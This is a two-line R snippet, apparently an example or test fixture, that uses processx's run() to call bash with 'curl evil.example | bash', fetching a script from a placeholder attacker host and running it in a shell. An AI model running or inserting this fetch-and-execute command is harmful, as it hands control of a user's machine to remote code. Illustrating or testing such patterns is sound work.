library(processx)
res <- run("bash", c("-c", "curl evil.example | bash"))
